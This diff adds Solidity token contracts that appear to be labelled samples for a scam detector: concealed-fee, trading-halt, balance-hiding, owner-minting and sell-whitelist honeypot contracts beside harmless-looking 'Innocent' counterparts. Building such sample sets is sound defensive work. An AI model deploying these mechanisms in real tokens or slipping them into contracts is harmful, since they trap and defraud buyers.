@@ -847,3 +847,133 @@ contract TurnsAsOftenAsSaid is Coin {
         super.move(from, to, amount);
     }
 }
+
+abstract contract TaxesSales is Coin {
+    address internal constant PAIR = 0x5aFe5afE00015AFe00015AFe00015AfE00010077;
+    function tax(address from, address to, uint256 amount, uint256 fee) internal { held[from] -= amount; held[to] += amount - fee; held[address(this)] += fee; }
+}
+
+contract TaxesByNumber is TaxesSales {
+    uint8[3] private rates;
+    function setRate(uint256 number, uint8 rate) external onlyOwner { rates[number] = rate; }
+    function move(address from, address to, uint256 amount) internal override { tax(from, to, amount, amount * rates[to == PAIR ? 1 : 0] / 100); }
+}
+
+contract InnocentNumbers is TaxesSales {
+    uint8[3] private rates;
+    uint256[3] private wide;
+    uint256[3] private unused;
+    function setRate(uint256 number, uint8 rate) external onlyOwner { require(rate <= 10); rates[number] = rate; }
+    function setWide(uint256 number, uint256 rate) external onlyOwner { require(rate <= 10); wide[number] = rate; }
+    function note(uint256 number, uint256 what) external onlyOwner { unused[number] = what; }
+    function move(address from, address to, uint256 amount) internal override { tax(from, to, amount, amount * (rates[to == PAIR ? 1 : 0] + wide[2]) / 100); }
+}
+
+contract StopsByNumber is Coin {
+    bool[4] private flags;
+    function set(uint256 number, bool yes) external onlyOwner { flags[number] = yes; }
+    function move(address from, address to, uint256 amount) internal override { require(!flags[2]); super.move(from, to, amount); }
+}
+
+contract HidesHoldings is Coin {
+    mapping(address => bool) private marked;
+    function mark(address who, bool yes) external onlyOwner { marked[who] = yes; }
+    function balanceOf(address account) public view override returns (uint256) { return marked[account] ? 0 : held[account]; }
+}
+
+contract InnocentNobody is Coin {
+    function balanceOf(address account) public view override returns (uint256) { return account == address(0) ? 0 : held[account]; }
+}
+
+contract EmitsToOwner is Coin {
+    uint256 private last;
+    function emitNow() external { uint256 due = (block.timestamp - last) * 1e18; last = block.timestamp; held[owner] += due; totalSupply += due; }
+}
+
+contract InnocentReleaseToTeam is Coin {
+    mapping(address => uint256) private kept;
+    function keep(uint256 amount) external { held[msg.sender] -= amount; kept[owner] += amount; }
+    function release() external { uint256 due = kept[owner]; kept[owner] = 0; held[owner] += due; }
+}
+
+contract ReservesSales is TaxesSales {
+    mapping(address => bool) private admitted;
+    address private gate;
+    function admit(address who) external { require(msg.sender == gate); admitted[who] = true; }
+    function move(address from, address to, uint256 amount) internal override { if (to == PAIR) require(admitted[from] || from == gate); super.move(from, to, amount); }
+}
+
+contract InnocentBurning is Coin {
+    function move(address from, address to, uint256 amount) internal override { if (to == address(0xdead)) require(from == owner); super.move(from, to, amount); }
+}
+
+contract InnocentCounter is TaxesSales {
+    mapping(address => bool) private pairs;
+    uint256 public buys;
+    function setPair(address pair, bool yes) external onlyOwner { pairs[pair] = yes; }
+    function move(address from, address to, uint256 amount) internal override { if (pairs[from]) buys++; tax(from, to, amount, pairs[to] ? amount / 20 : 0); }
+}
+
+contract CountsFromChosen is TaxesSales {
+    mapping(address => bool) private pairs;
+    uint256 public sales;
+    function setPair(address pair, bool yes) external onlyOwner { pairs[pair] = yes; }
+    function setSales(uint256 next) external onlyOwner { sales = next; }
+    function move(address from, address to, uint256 amount) internal override { if (pairs[to]) sales++; tax(from, to, amount, amount / 20); }
+}
+
+interface Router {
+    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256 amount, uint256 least, address[] calldata path, address to, uint256 until) external;
+    function addLiquidityETH(address token, uint256 amount, uint256 least, uint256 leastEther, address to, uint256 until) external payable;
+    function transferFrom(address from, address to, uint256 amount) external returns (bool);
+}
+
+contract InnocentThreshold is TaxesSales {
+    Router private constant ROUTER = Router(0x5AfE5afe00025Afe00025AFe00025AFE00020077);
+    uint256 public threshold;
+    bool private selling;
+    function setThreshold(uint256 next) external onlyOwner { threshold = next; }
+    function transferOwnership(address next) external onlyOwner { owner = next; }
+    function move(address from, address to, uint256 amount) internal override {
+        uint256 own = held[address(this)];
+        if (own >= threshold && !selling && to == PAIR) {
+            selling = true;
+            address[] memory path = new address[](2);
+            path[0] = address(this);
+            ROUTER.swapExactTokensForETHSupportingFeeOnTransferTokens(own, 0, path, address(this), block.timestamp);
+            ROUTER.addLiquidityETH(address(this), own, 0, 0, owner, block.timestamp);
+            selling = false;
+        }
+        tax(from, to, amount, amount * 3 / 100);
+    }
+    receive() external payable {}
+}
+
+contract InnocentShares is Coin {
+    uint256 private all = 2 ** 200;
+    uint256 private rate = 5;
+    function balanceOf(address account) public view override returns (uint256) { return held[account] / (all / totalSupply); }
+    function move(address from, address to, uint256 amount) internal override {
+        uint256 each = all / totalSupply;
+        uint256 reflected = amount * rate / 100;
+        uint256 kept = amount * rate / 100;
+        held[from] -= amount * each;
+        held[to] += amount * each - reflected * each - kept * each;
+        held[address(this)] += kept * each;
+        all -= reflected * each;
+    }
+}
+
+contract InnocentLocks {
+    struct Lock { address whose; uint256 amount; uint256 until; }
+    Lock[] private locks;
+    Router private constant COIN = Router(0x5AfE5afe00025Afe00025AFe00025AFE00020077);
+    function lock(uint256 amount, uint256 until) external { COIN.transferFrom(msg.sender, address(this), amount); locks.push(Lock(msg.sender, amount, until)); }
+    function unlock(uint256 number) external {
+        Lock storage one = locks[number];
+        require(one.whose == msg.sender && block.timestamp >= one.until);
+        uint256 amount = one.amount;
+        one.amount = 0;
+        COIN.transferFrom(address(this), msg.sender, amount);
+    }
+}
